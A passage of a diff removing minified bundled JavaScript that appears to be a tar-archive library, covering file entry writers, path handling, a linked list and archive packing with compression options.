-        e < i && (this[p] = this[p] ? Buffer.concat([t.subarray(e), this[p]]) : t.subarray(e));
-      }
-      end(t, e, i) {
-        return typeof t == "function" && (i = t, e = void 0, t = void 0), typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, e)), i && this.once("finish", i), this[$] || (this[w] ? (t && (this[le] += t.length, this[w].write(t)), this[w].end()) : (this[ut] = true, (this.brotli === void 0 || this.zstd === void 0) && (t = t || Buffer.alloc(0)), t && this.write(t), this[Qe]())), this;
-      }
-    };
-    mt = (s3) => {
-      let t = s3.length - 1, e = -1;
-      for (; t > -1 && s3.charAt(t) === "/"; ) e = t, t--;
-      return e === -1 ? s3 : s3.slice(0, e);
-    };
-    vn = (s3) => {
-      let t = s3.onReadEntry;
-      s3.onReadEntry = t ? (e) => {
-        t(e), e.resume();
-      } : (e) => e.resume();
-    };
-    Qi = (s3, t) => {
-      let e = new Map(t.map((o) => [mt(o), true])), i = s3.filter, r = 100, n = (o, h = "", a = 0) => {
-        if (a >= r) return e.set(o, false), false;
-        let l = h || kn(o).root || ".", c;
-        if (o === l) c = false;
-        else {
-          let d = e.get(o);
-          c = d !== void 0 ? d : n(Fn(o), l, a + 1);
-        }
-        return e.set(o, c), c;
-      };
-      s3.filter = i ? (o, h) => i(o, h) && n(mt(o)) : (o) => n(mt(o));
-    };
-    Mn = (s3) => {
-      let t = new rt(s3), e = s3.file, i;
-      try {
-        i = Kt.openSync(e, "r");
-        let r = Kt.fstatSync(i), n = s3.maxReadSize || 16 * 1024 * 1024;
-        if (r.size < n) {
-          let o = Buffer.allocUnsafe(r.size), h = Kt.readSync(i, o, 0, r.size, 0);
-          t.end(h === o.byteLength ? o : o.subarray(0, h));
-        } else {
-          let o = 0, h = Buffer.allocUnsafe(n);
-          for (; o < r.size; ) {
-            let a = Kt.readSync(i, h, 0, n, o);
-            if (a === 0) break;
-            o += a, t.write(h.subarray(0, a));
-          }
-          t.end();
-        }
-      } finally {
-        if (typeof i == "number") try {
-          Kt.closeSync(i);
-        } catch {
-        }
-      }
-    };
-    Bn = (s3, t) => {
-      let e = new rt(s3), i = s3.maxReadSize || 16 * 1024 * 1024, r = s3.file;
-      return new Promise((o, h) => {
-        e.on("error", h), e.on("end", o), Kt.stat(r, (a, l) => {
-          if (a) h(a);
-          else {
-            let c = new _t(r, { readSize: i, size: l.size });
-            c.on("error", h), c.pipe(e);
-          }
-        });
-      });
-    };
-    Ct = K(Mn, Bn, (s3) => new rt(s3), (s3) => new rt(s3), (s3, t) => {
-      t?.length && Qi(s3, t), s3.noResume || vn(s3);
-    });
-    Ji = (s3, t, e) => (s3 &= 4095, e && (s3 = (s3 | 384) & -19), t && (s3 & 256 && (s3 |= 64), s3 & 32 && (s3 |= 8), s3 & 4 && (s3 |= 1)), s3);
-    ({ isAbsolute: zn, parse: qs } = Pn);
-    ce = (s3) => {
-      let t = "", e = qs(s3);
-      for (; zn(s3) || e.root; ) {
-        let i = s3.charAt(0) === "/" && s3.slice(0, 4) !== "//?/" ? "/" : e.root;
-        s3 = s3.slice(i.length), t += i, e = qs(s3);
-      }
-      return [t, s3];
-    };
-    ei = ["|", "<", ">", "?", ":"];
-    ji = ei.map((s3) => String.fromCodePoint(61440 + Number(s3.codePointAt(0))));
-    Un = new Map(ei.map((s3, t) => [s3, ji[t]]));
-    Hn = new Map(ji.map((s3, t) => [s3, ei[t]]));
-    ts = (s3) => ei.reduce((t, e) => t.split(e).join(Un.get(e)), s3);
-    Qs = (s3) => ji.reduce((t, e) => t.split(e).join(Hn.get(e)), s3);
-    rr = (s3, t) => t ? (s3 = f(s3).replace(/^\.(\/|$)/, ""), mt(t) + "/" + s3) : f(s3);
-    Wn = 16 * 1024 * 1024;
-    tr = Symbol("process");
-    er = Symbol("file");
-    ir = Symbol("directory");
-    is = Symbol("symlink");
-    sr = Symbol("hardlink");
-    fe = Symbol("header");
-    ii = Symbol("read");
-    ss = Symbol("lstat");
-    si = Symbol("onlstat");
-    rs = Symbol("onread");
-    ns = Symbol("onreadlink");
-    os3 = Symbol("openfile");
-    hs = Symbol("onopenfile");
-    pt = Symbol("close");
-    ri = Symbol("mode");
-    as = Symbol("awaitDrain");
-    es = Symbol("ondrain");
-    q = Symbol("prefix");
-    de = class extends A {
-      path;
-      portable;
-      myuid = process.getuid && process.getuid() || 0;
-      myuser = process.env.USER || "";
-      maxReadSize;
-      linkCache;
-      statCache;
-      preservePaths;
-      cwd;
-      strict;
-      mtime;
-      noPax;
-      noMtime;
-      prefix;
-      fd;
-      blockLen = 0;
-      blockRemain = 0;
-      buf;
-      pos = 0;
-      remain = 0;
-      length = 0;
-      offset = 0;
-      win32;
-      absolute;
-      header;
-      type;
-      linkpath;
-      stat;
-      onWriteEntry;
-      #t = false;
-      constructor(t, e = {}) {
-        let i = se(e);
-        super(), this.path = f(t), this.portable = !!i.portable, this.maxReadSize = i.maxReadSize || Wn, this.linkCache = i.linkCache || /* @__PURE__ */ new Map(), this.statCache = i.statCache || /* @__PURE__ */ new Map(), this.preservePaths = !!i.preservePaths, this.cwd = f(i.cwd || process.cwd()), this.strict = !!i.strict, this.noPax = !!i.noPax, this.noMtime = !!i.noMtime, this.mtime = i.mtime, this.prefix = i.prefix ? f(i.prefix) : void 0, this.onWriteEntry = i.onWriteEntry, typeof i.onwarn == "function" && this.on("warn", i.onwarn);
-        let r = false;
-        if (!this.preservePaths) {
-          let [o, h] = ce(this.path);
-          o && typeof h == "string" && (this.path = h, r = o);
-        }
-        this.win32 = !!i.win32 || process.platform === "win32", this.win32 && (this.path = Qs(this.path.replaceAll(/\\/g, "/")), t = t.replaceAll(/\\/g, "/")), this.absolute = f(i.absolute || js.resolve(this.cwd, t)), this.path === "" && (this.path = "./"), r && this.warn("TAR_ENTRY_INFO", `stripping ${r} from absolute path`, { entry: this, path: r + this.path });
-        let n = this.statCache.get(this.absolute);
-        n ? this[si](n) : this[ss]();
-      }
-      warn(t, e, i = {}) {
-        return Dt(this, t, e, i);
-      }
-      emit(t, ...e) {
-        return t === "error" && (this.#t = true), super.emit(t, ...e);
-      }
-      [ss]() {
-        X.lstat(this.absolute, (t, e) => {
-          if (t) return this.emit("error", t);
-          this[si](e);
-        });
-      }
-      [si](t) {
-        this.statCache.set(this.absolute, t), this.stat = t, t.isFile() || (t.size = 0), this.type = Gn(t), this.emit("stat", t), this[tr]();
-      }
-      [tr]() {
-        switch (this.type) {
-          case "File":
-            return this[er]();
-          case "Directory":
-            return this[ir]();
-          case "SymbolicLink":
-            return this[is]();
-          default:
-            return this.end();
-        }
-      }
-      [ri](t) {
-        return Ji(t, this.type === "Directory", this.portable);
-      }
-      [q](t) {
-        return rr(t, this.prefix);
-      }
-      [fe]() {
-        if (!this.stat) throw new Error("cannot write header before stat");
-        this.type === "Directory" && this.portable && (this.noMtime = true), this.onWriteEntry?.(this), this.header = new F({ path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, mode: this[ri](this.stat.mode), uid: this.portable ? void 0 : this.stat.uid, gid: this.portable ? void 0 : this.stat.gid, size: this.stat.size, mtime: this.noMtime ? void 0 : this.mtime || this.stat.mtime, type: this.type === "Unsupported" ? void 0 : this.type, uname: this.portable ? void 0 : this.stat.uid === this.myuid ? this.myuser : "", atime: this.portable ? void 0 : this.stat.atime, ctime: this.portable ? void 0 : this.stat.ctime }), this.header.encode() && !this.noPax && super.write(new ft({ atime: this.portable ? void 0 : this.header.atime, ctime: this.portable ? void 0 : this.header.ctime, gid: this.portable ? void 0 : this.header.gid, mtime: this.noMtime ? void 0 : this.mtime || this.header.mtime, path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, size: this.header.size, uid: this.portable ? void 0 : this.header.uid, uname: this.portable ? void 0 : this.header.uname, dev: this.portable ? void 0 : this.stat.dev, ino: this.portable ? void 0 : this.stat.ino, nlink: this.portable ? void 0 : this.stat.nlink }).encode());
-        let t = this.header?.block;
-        if (!t) throw new Error("failed to encode header");
-        super.write(t);
-      }
-      [ir]() {
-        if (!this.stat) throw new Error("cannot create directory entry without stat");
-        this.path.slice(-1) !== "/" && (this.path += "/"), this.stat.size = 0, this[fe](), this.end();
-      }
-      [is]() {
-        X.readlink(this.absolute, (t, e) => {
-          if (t) return this.emit("error", t);
-          this[ns](e);
-        });
-      }
-      [ns](t) {
-        this.linkpath = f(t), this[fe](), this.end();
-      }
-      [sr](t) {
-        if (!this.stat) throw new Error("cannot create link entry without stat");
-        this.type = "Link", this.linkpath = f(js.relative(this.cwd, t)), this.stat.size = 0, this[fe](), this.end();
-      }
-      [er]() {
-        if (!this.stat) throw new Error("cannot create file entry without stat");
-        if (this.stat.nlink > 1) {
-          let t = `${this.stat.dev}:${this.stat.ino}`, e = this.linkCache.get(t);
-          if (e?.indexOf(this.cwd) === 0) return this[sr](e);
-          this.linkCache.set(t, this.absolute);
-        }
-        if (this[fe](), this.stat.size === 0) return this.end();
-        this[os3]();
-      }
-      [os3]() {
-        X.open(this.absolute, "r", (t, e) => {
-          if (t) return this.emit("error", t);
-          this[hs](e);
-        });
-      }
-      [hs](t) {
-        if (this.fd = t, this.#t) return this[pt]();
-        if (!this.stat) throw new Error("should stat before calling onopenfile");
-        this.blockLen = 512 * Math.ceil(this.stat.size / 512), this.blockRemain = this.blockLen;
-        let e = Math.min(this.blockLen, this.maxReadSize);
-        this.buf = Buffer.allocUnsafe(e), this.offset = 0, this.pos = 0, this.remain = this.stat.size, this.length = this.buf.length, this[ii]();
-      }
-      [ii]() {
-        let { fd: t, buf: e, offset: i, length: r, pos: n } = this;
-        if (t === void 0 || e === void 0) throw new Error("cannot read file without first opening");
-        X.read(t, e, i, r, n, (o, h) => {
-          if (o) return this[pt](() => this.emit("error", o));
-          this[rs](h);
-        });
-      }
-      [pt](t = () => {
-      }) {
-        this.fd !== void 0 && X.close(this.fd, t);
-      }
-      [rs](t) {
-        if (t <= 0 && this.remain > 0) {
-          let r = Object.assign(new Error("encountered unexpected EOF"), { path: this.absolute, syscall: "read", code: "EOF" });
-          return this[pt](() => this.emit("error", r));
-        }
-        if (t > this.remain) {
-          let r = Object.assign(new Error("did not encounter expected EOF"), { path: this.absolute, syscall: "read", code: "EOF" });
-          return this[pt](() => this.emit("error", r));
-        }
-        if (!this.buf) throw new Error("should have created buffer prior to reading");
-        if (t === this.remain) for (let r = t; r < this.length && t < this.blockRemain; r++) this.buf[r + this.offset] = 0, t++, this.remain++;
-        let e = this.offset === 0 && t === this.buf.length ? this.buf : this.buf.subarray(this.offset, this.offset + t);
-        this.write(e) ? this[es]() : this[as](() => this[es]());
-      }
-      [as](t) {
-        this.once("drain", t);
-      }
-      write(t, e, i) {
-        if (typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, typeof e == "string" ? e : "utf8")), this.blockRemain < t.length) {
-          let r = Object.assign(new Error("writing more data than expected"), { path: this.absolute });
-          return this.emit("error", r);
-        }
-        return this.remain -= t.length, this.blockRemain -= t.length, this.pos += t.length, this.offset += t.length, super.write(t, null, i);
-      }
-      [es]() {
-        if (!this.remain) return this.blockRemain && super.write(Buffer.alloc(this.blockRemain)), this[pt]((t) => t ? this.emit("error", t) : this.end());
-        if (!this.buf) throw new Error("buffer lost somehow in ONDRAIN");
-        this.offset >= this.length && (this.buf = Buffer.allocUnsafe(Math.min(this.blockRemain, this.buf.length)), this.offset = 0), this.length = this.buf.length - this.offset, this[ii]();
-      }
-    };
-    ni = class extends de {
-      sync = true;
-      [ss]() {
-        this[si](X.lstatSync(this.absolute));
-      }
-      [is]() {
-        this[ns](X.readlinkSync(this.absolute));
-      }
-      [os3]() {
-        this[hs](X.openSync(this.absolute, "r"));
-      }
-      [ii]() {
-        let t = true;
-        try {
-          let { fd: e, buf: i, offset: r, length: n, pos: o } = this;
-          if (e === void 0 || i === void 0) throw new Error("fd and buf must be set in READ method");
-          let h = X.readSync(e, i, r, n, o);
-          this[rs](h), t = false;
-        } finally {
-          if (t) try {
-            this[pt](() => {
-            });
-          } catch {
-          }
-        }
-      }
-      [as](t) {
-        t();
-      }
-      [pt](t = () => {
-      }) {
-        this.fd !== void 0 && X.closeSync(this.fd), t();
-      }
-    };
-    oi = class extends A {
-      blockLen = 0;
-      blockRemain = 0;
-      buf = 0;
-      pos = 0;
-      remain = 0;
-      length = 0;
-      preservePaths;
-      portable;
-      strict;
-      noPax;
-      noMtime;
-      readEntry;
-      type;
-      prefix;
-      path;
-      mode;
-      uid;
-      gid;
-      uname;
-      gname;
-      header;
-      mtime;
-      atime;
-      ctime;
-      linkpath;
-      size;
-      onWriteEntry;
-      warn(t, e, i = {}) {
-        return Dt(this, t, e, i);
-      }
-      constructor(t, e = {}) {
-        let i = se(e);
-        super(), this.preservePaths = !!i.preservePaths, this.portable = !!i.portable, this.strict = !!i.strict, this.noPax = !!i.noPax, this.noMtime = !!i.noMtime, this.onWriteEntry = i.onWriteEntry, this.readEntry = t;
-        let { type: r } = t;
-        if (r === "Unsupported") throw new Error("writing entry that should be ignored");
-        this.type = r, this.type === "Directory" && this.portable && (this.noMtime = true), this.prefix = i.prefix, this.path = f(t.path), this.mode = t.mode !== void 0 ? this[ri](t.mode) : void 0, this.uid = this.portable ? void 0 : t.uid, this.gid = this.portable ? void 0 : t.gid, this.uname = this.portable ? void 0 : t.uname, this.gname = this.portable ? void 0 : t.gname, this.size = t.size, this.mtime = this.noMtime ? void 0 : i.mtime || t.mtime, this.atime = this.portable ? void 0 : t.atime, this.ctime = this.portable ? void 0 : t.ctime, this.linkpath = t.linkpath !== void 0 ? f(t.linkpath) : void 0, typeof i.onwarn == "function" && this.on("warn", i.onwarn);
-        let n = false;
-        if (!this.preservePaths) {
-          let [h, a] = ce(this.path);
-          h && typeof a == "string" && (this.path = a, n = h);
-        }
-        this.remain = t.size, this.blockRemain = t.startBlockSize, this.onWriteEntry?.(this), this.header = new F({ path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, mode: this.mode, uid: this.portable ? void 0 : this.uid, gid: this.portable ? void 0 : this.gid, size: this.size, mtime: this.noMtime ? void 0 : this.mtime, type: this.type, uname: this.portable ? void 0 : this.uname, atime: this.portable ? void 0 : this.atime, ctime: this.portable ? void 0 : this.ctime }), n && this.warn("TAR_ENTRY_INFO", `stripping ${n} from absolute path`, { entry: this, path: n + this.path }), this.header.encode() && !this.noPax && super.write(new ft({ atime: this.portable ? void 0 : this.atime, ctime: this.portable ? void 0 : this.ctime, gid: this.portable ? void 0 : this.gid, mtime: this.noMtime ? void 0 : this.mtime, path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, size: this.size, uid: this.portable ? void 0 : this.uid, uname: this.portable ? void 0 : this.uname, dev: this.portable ? void 0 : this.readEntry.dev, ino: this.portable ? void 0 : this.readEntry.ino, nlink: this.portable ? void 0 : this.readEntry.nlink }).encode());
-        let o = this.header?.block;
-        if (!o) throw new Error("failed to encode header");
-        super.write(o), t.pipe(this);
-      }
-      [q](t) {
-        return rr(t, this.prefix);
-      }
-      [ri](t) {
-        return Ji(t, this.type === "Directory", this.portable);
-      }
-      write(t, e, i) {
-        typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, typeof e == "string" ? e : "utf8"));
-        let r = t.length;
-        if (r > this.blockRemain) throw new Error("writing more to entry than is appropriate");
-        return this.blockRemain -= r, super.write(t, i);
-      }
-      end(t, e, i) {
-        return this.blockRemain && super.write(Buffer.alloc(this.blockRemain)), typeof t == "function" && (i = t, e = void 0, t = void 0), typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, e ?? "utf8")), i && this.once("finish", i), t ? super.end(t, i) : super.end(i), this;
-      }
-    };
-    Gn = (s3) => s3.isFile() ? "File" : s3.isDirectory() ? "Directory" : s3.isSymbolicLink() ? "SymbolicLink" : "Unsupported";
-    hi = class s2 {
-      tail;
-      head;
-      length = 0;
-      static create(t = []) {
-        return new s2(t);
-      }
-      constructor(t = []) {
-        for (let e of t) this.push(e);
-      }
-      *[Symbol.iterator]() {
-        for (let t = this.head; t; t = t.next) yield t.value;
-      }
-      removeNode(t) {
-        if (t.list !== this) throw new Error("removing node which does not belong to this list");
-        let e = t.next, i = t.prev;
-        return e && (e.prev = i), i && (i.next = e), t === this.head && (this.head = e), t === this.tail && (this.tail = i), this.length--, t.next = void 0, t.prev = void 0, t.list = void 0, e;
-      }
-      unshiftNode(t) {
-        if (t === this.head) return;
-        t.list && t.list.removeNode(t);
-        let e = this.head;
-        t.list = this, t.next = e, e && (e.prev = t), this.head = t, this.tail || (this.tail = t), this.length++;
-      }
-      pushNode(t) {
-        if (t === this.tail) return;
-        t.list && t.list.removeNode(t);
-        let e = this.tail;
-        t.list = this, t.prev = e, e && (e.next = t), this.tail = t, this.head || (this.head = t), this.length++;
-      }
-      push(...t) {
-        for (let e = 0, i = t.length; e < i; e++) Yn(this, t[e]);
-        return this.length;
-      }
-      unshift(...t) {
-        for (var e = 0, i = t.length; e < i; e++) Kn(this, t[e]);
-        return this.length;
-      }
-      pop() {
-        if (!this.tail) return;
-        let t = this.tail.value, e = this.tail;
-        return this.tail = this.tail.prev, this.tail ? this.tail.next = void 0 : this.head = void 0, e.list = void 0, this.length--, t;
-      }
-      shift() {
-        if (!this.head) return;
-        let t = this.head.value, e = this.head;
-        return this.head = this.head.next, this.head ? this.head.prev = void 0 : this.tail = void 0, e.list = void 0, this.length--, t;
-      }
-      forEach(t, e) {
-        e = e || this;
-        for (let i = this.head, r = 0; i; r++) t.call(e, i.value, r, this), i = i.next;
-      }
-      forEachReverse(t, e) {
-        e = e || this;
-        for (let i = this.tail, r = this.length - 1; i; r--) t.call(e, i.value, r, this), i = i.prev;
-      }
-      get(t) {
-        let e = 0, i = this.head;
-        for (; i && e < t; e++) i = i.next;
-        if (e === t && i) return i.value;
-      }
-      getReverse(t) {
-        let e = 0, i = this.tail;
-        for (; i && e < t; e++) i = i.prev;
-        if (e === t && i) return i.value;
-      }
-      map(t, e) {
-        e = e || this;
-        let i = new s2();
-        for (let r = this.head; r; ) i.push(t.call(e, r.value, this)), r = r.next;
-        return i;
-      }
-      mapReverse(t, e) {
-        e = e || this;
-        var i = new s2();
-        for (let r = this.tail; r; ) i.push(t.call(e, r.value, this)), r = r.prev;
-        return i;
-      }
-      reduce(t, e) {
-        let i, r = this.head;
-        if (arguments.length > 1) i = e;
-        else if (this.head) r = this.head.next, i = this.head.value;
-        else throw new TypeError("Reduce of empty list with no initial value");
-        for (var n = 0; r; n++) i = t(i, r.value, n), r = r.next;
-        return i;
-      }
-      reduceReverse(t, e) {
-        let i, r = this.tail;
-        if (arguments.length > 1) i = e;
-        else if (this.tail) r = this.tail.prev, i = this.tail.value;
-        else throw new TypeError("Reduce of empty list with no initial value");
-        for (let n = this.length - 1; r; n--) i = t(i, r.value, n), r = r.prev;
-        return i;
-      }
-      toArray() {
-        let t = new Array(this.length);
-        for (let e = 0, i = this.head; i; e++) t[e] = i.value, i = i.next;
-        return t;
-      }
-      toArrayReverse() {
-        let t = new Array(this.length);
-        for (let e = 0, i = this.tail; i; e++) t[e] = i.value, i = i.prev;
-        return t;
-      }
-      slice(t = 0, e = this.length) {
-        e < 0 && (e += this.length), t < 0 && (t += this.length);
-        let i = new s2();
-        if (e < t || e < 0) return i;
-        t < 0 && (t = 0), e > this.length && (e = this.length);
-        let r = this.head, n = 0;
-        for (n = 0; r && n < t; n++) r = r.next;
-        for (; r && n < e; n++, r = r.next) i.push(r.value);
-        return i;
-      }
-      sliceReverse(t = 0, e = this.length) {
-        e < 0 && (e += this.length), t < 0 && (t += this.length);
-        let i = new s2();
-        if (e < t || e < 0) return i;
-        t < 0 && (t = 0), e > this.length && (e = this.length);
-        let r = this.length, n = this.tail;
-        for (; n && r > e; r--) n = n.prev;
-        for (; n && r > t; r--, n = n.prev) i.push(n.value);
-        return i;
-      }
-      splice(t, e = 0, ...i) {
-        t > this.length && (t = this.length - 1), t < 0 && (t = this.length + t);
-        let r = this.head;
-        for (let o = 0; r && o < t; o++) r = r.next;
-        let n = [];
-        for (let o = 0; r && o < e; o++) n.push(r.value), r = this.removeNode(r);
-        r ? r !== this.tail && (r = r.prev) : r = this.tail;
-        for (let o of i) r = Zn(this, r, o);
-        return n;
-      }
-      reverse() {
-        let t = this.head, e = this.tail;
-        for (let i = t; i; i = i.prev) {
-          let r = i.prev;
-          i.prev = i.next, i.next = r;
-        }
-        return this.head = e, this.tail = t, this;
-      }
-    };
-    ue = class {
-      list;
-      next;
-      prev;
-      value;
-      constructor(t, e, i, r) {
-        this.list = r, this.value = t, e ? (e.next = this, this.prev = e) : this.prev = void 0, i ? (i.prev = this, this.next = i) : this.next = void 0;
-      }
-    };
-    pi = class {
-      path;
-      absolute;
-      entry;
-      stat;
-      readdir;
-      pending = false;
-      pendingLink = false;
-      ignore = false;
-      piped = false;
-      constructor(t, e) {
-        this.path = t || "./", this.absolute = e;
-      }
-    };
-    nr = Buffer.alloc(1024);
-    li = Symbol("onStat");
-    me = Symbol("ended");
-    W = Symbol("queue");
-    pe = Symbol("pendingLinks");
-    Et = Symbol("current");
-    Ft = Symbol("process");
-    Ee = Symbol("processing");
-    ai = Symbol("processJob");
-    G = Symbol("jobs");
-    ls = Symbol("jobDone");
-    ci = Symbol("addFSEntry");
-    or = Symbol("addTarEntry");
-    ds = Symbol("stat");
-    us = Symbol("readdir");
-    fi = Symbol("onreaddir");
-    di = Symbol("pipe");
-    hr = Symbol("entry");
-    cs = Symbol("entryOpt");
-    ui = Symbol("writeEntryClass");
-    lr = Symbol("write");
-    fs = Symbol("ondrain");
-    wt = class extends A {
-      sync = false;
-      opt;
-      cwd;
-      maxReadSize;
-      preservePaths;
-      strict;
-      noPax;
-      prefix;
-      linkCache;
-      statCache;
-      file;
-      portable;
-      zip;
-      readdirCache;
-      noDirRecurse;
-      follow;
-      noMtime;
-      mtime;
-      filter;
-      jobs;
-      [ui];
-      onWriteEntry;
-      [W];
-      [pe] = /* @__PURE__ */ new Map();
-      [G] = 0;
-      [Ee] = false;
-      [me] = false;
-      constructor(t = {}) {
-        if (super(), this.opt = t, this.file = t.file || "", this.cwd = t.cwd || process.cwd(), this.maxReadSize = t.maxReadSize, this.preservePaths = !!t.preservePaths, this.strict = !!t.strict, this.noPax = !!t.noPax, this.prefix = f(t.prefix || ""), this.linkCache = t.linkCache || /* @__PURE__ */ new Map(), this.statCache = t.statCache || /* @__PURE__ */ new Map(), this.readdirCache = t.readdirCache || /* @__PURE__ */ new Map(), this.onWriteEntry = t.onWriteEntry, this[ui] = de, typeof t.onwarn == "function" && this.on("warn", t.onwarn), this.portable = !!t.portable, t.gzip || t.brotli || t.zstd) {
-          if ((t.gzip ? 1 : 0) + (t.brotli ? 1 : 0) + (t.zstd ? 1 : 0) > 1) throw new TypeError("gzip, brotli, zstd are mutually exclusive");
-          if (t.gzip && (typeof t.gzip != "object" && (t.gzip = {}), this.portable && (t.gzip.portable = true), this.zip = new ze(t.gzip)), t.brotli && (typeof t.brotli != "object" && (t.brotli = {}), this.zip = new We(t.brotli)), t.zstd && (typeof t.zstd != "object" && (t.zstd = {}), this.zip = new Ye(t.zstd)), !this.zip) throw new Error("impossible");
-          let e = this.zip;
-          e.on("data", (i) => super.write(i)), e.on("end", () => super.end()), e.on("drain", () => this[fs]()), this.on("resume", () => e.resume());
-        } else this.on("drain", this[fs]);
-        this.noDirRecurse = !!t.noDirRecurse, this.follow = !!t.follow, this.noMtime = !!t.noMtime, t.mtime && (this.mtime = t.mtime), this.filter = typeof t.filter == "function" ? t.filter : () => true, this[W] = new hi(), this[G] = 0, this.jobs = Number(t.jobs) || 4, this[Ee] = false, this[me] = false;
-      }
-      [lr](t) {
-        return super.write(t);
-      }
-      add(t) {
-        return this.write(t), this;
-      }
-      end(t, e, i) {
-        return typeof t == "function" && (i = t, t = void 0), typeof e == "function" && (i = e, e = void 0), t && this.add(t), this[me] = true, this[Ft](), i && i(), this;
-      }
-      write(t) {
-        if (this[me]) throw new Error("write after end");
-        return typeof t == "string" ? this[ci](t) : this[or](t), this.flowing;
-      }
-      [or](t) {
-        let e = f(ar.resolve(this.cwd, t.path));
-        if (!this.filter(t.path, t)) t.resume();
-        else {
-          let i = new pi(t.path, e);
-          i.entry = new oi(t, this[cs](i)), i.entry.on("end", () => this[ls](i)), this[G] += 1, this[W].push(i);
-        }
-        this[Ft]();
-      }
-      [ci](t) {
-        let e = f(ar.resolve(this.cwd, t));
-        this[W].push(new pi(t, e)), this[Ft]();
-      }
-      [ds](t) {
-        t.pending = true, this[G] += 1;
-        let e = this.follow ? "stat" : "lstat";
-        mi[e](t.absolute, (i, r) => {
-          t.pending = false, this[G] -= 1, i ? this.emit("error", i) : this[li](t, r);
-        });
-      }
-      [li](t, e) {
-        if (this.statCache.set(t.absolute, e), t.stat = e, !this.filter(t.path, e)) t.ignore = true;
-        else if (e.isFile() && e.nlink > 1 && !this.linkCache.get(`${e.dev}:${e.ino}`) && !this.sync) if (t === this[Et]) this[ai](t);
-        else {
-          let i = `${e.dev}:${e.ino}`, r = this[pe].get(i);
-          r ? r.push(t) : this[pe].set(i, [t]), t.pendingLink = true, t.pending = true;
-        }
-        this[Ft]();
-      }
-      [us](t) {
-        t.pending = true, this[G] += 1, mi.readdir(t.absolute, (e, i) => {
-          if (t.pending = false, this[G] -= 1, e) return this.emit("error", e);
-          this[fi](t, i);
-        });
-      }
-      [fi](t, e) {
-        this.readdirCache.set(t.absolute, e), t.readdir = e, this[Ft]();
-      }
-      [Ft]() {
-        if (!this[Ee]) {
-          this[Ee] = true;
-          for (let t = this[W].head; t && this[G] < this.jobs; t = t.next) if (this[ai](t.value), t.value.ignore) {
-            let e = t.next;
-            this[W].removeNode(t), t.next = e;
-          }
-          this[Ee] = false, this[me] && this[W].length === 0 && this[G] === 0 && (this.zip ? this.zip.end(nr) : (super.write(nr), super.end()));
-        }
-      }
-      get [Et]() {
-        return this[W] && this[W].head && this[W].head.value;
-      }
-      [ls](t) {
-        this[W].shift(), this[G] -= 1;
-        let { stat: e } = t;
-        if (e && e.isFile() && e.nlink > 1) {
-          let i = `${e.dev}:${e.ino}`, r = this[pe].get(i);
-          if (r) {
-            this[pe].delete(i);
-            for (let n of r) n.pending = false, this[ai](n);
-          }
-        }
-        this[Ft]();
-      }
-      [ai](t) {
-        if (t.pending && t.pendingLink && t === this[Et] && (t.pending = false, t.pendingLink = false), !t.pending) {
-          if (t.entry) {
-            t === this[Et] && !t.piped && this[di](t);
-            return;
-          }
-          if (!t.stat) {
-            let e = this.statCache.get(t.absolute);
-            e ? this[li](t, e) : this[ds](t);
-          }
-          if (t.stat && !t.ignore) {
-            if (!this.noDirRecurse && t.stat.isDirectory() && !t.readdir) {
-              let e = this.readdirCache.get(t.absolute);
-              if (e ? this[fi](t, e) : this[us](t), !t.readdir) return;
-            }
-            if (t.entry = this[hr](t), !t.entry) {
-              t.ignore = true;
-              return;
-            }
-            t === this[Et] && !t.piped && this[di](t);
-          }
-        }
-      }
-      [cs](t) {
-        return { onwarn: (e, i, r) => this.warn(e, i, r), noPax: this.noPax, cwd: this.cwd, absolute: t.absolute, preservePaths: this.preservePaths, maxReadSize: this.maxReadSize, strict: this.strict, portable: this.portable, linkCache: this.linkCache, statCache: this.statCache, noMtime: this.noMtime, mtime: this.mtime, prefix: this.prefix, onWriteEntry: this.onWriteEntry };
-      }
-      [hr](t) {
-        this[G] += 1;
-        try {
-          return new this[ui](t.path, this[cs](t)).on("end", () => this[ls](t)).on("error", (i) => this.emit("error", i));
-        } catch (e) {
-          this.emit("error", e);
-        }
-      }
-      [fs]() {
-        this[Et] && this[Et].entry && this[Et].entry.resume();
-      }
-      [di](t) {
-        t.piped = true, t.readdir && t.readdir.forEach((r) => {
-          let n = t.path, o = n === "./" ? "" : n.replace(/\/*$/, "/");
-          this[ci](o + r);
-        });
-        let e = t.entry, i = this.zip;
-        if (!e) throw new Error("cannot pipe without source");
-        i ? e.on("data", (r) => {
-          i.write(r) || e.pause();
-        }) : e.on("data", (r) => {
-          super.write(r) || e.pause();
-        });
-      }
-      pause() {
-        return this.zip && this.zip.pause(), super.pause();
-      }
-      warn(t, e, i = {}) {
-        Dt(this, t, e, i);
-      }
-    };
-    kt = class extends wt {
-      sync = true;
-      constructor(t) {
-        super(t), this[ui] = ni;
-      }
-      pause() {
-      }
-      resume() {
-      }
-      [ds](t) {
-        let e = this.follow ? "statSync" : "lstatSync";
-        this[li](t, mi[e](t.absolute));
-      }
-      [us](t) {
-        this[fi](t, mi.readdirSync(t.absolute));
-      }
-      [di](t) {
-        let e = t.entry, i = this.zip;
-        if (t.readdir && t.readdir.forEach((r) => {
-          let n = t.path, o = n === "./" ? "" : n.replace(/\/*$/, "/");
-          this[ci](o + r);
-        }), !e) throw new Error("Cannot pipe without source");
-        i ? e.on("data", (r) => {
-          i.write(r);
-        }) : e.on("data", (r) => {
-          super[lr](r);
-        });
-      }
-    };
-    Vn = (s3, t) => {
-      let e = new kt(s3), i = new Wt(s3.file, { mode: s3.mode || 438 });
-      e.pipe(i), fr(e, t);
-    };
-    $n = (s3, t) => {
-      let e = new wt(s3), i = new et(s3.file, { mode: s3.mode || 438 });
-      e.pipe(i);
-      let r = new Promise((n, o) => {
-        i.on("error", o), i.on("close", n), e.on("error", o);
-      });
-      return dr(e, t).catch((n) => e.emit("error", n)), r;
-    };
-    fr = (s3, t) => {
-      t.forEach((e) => {
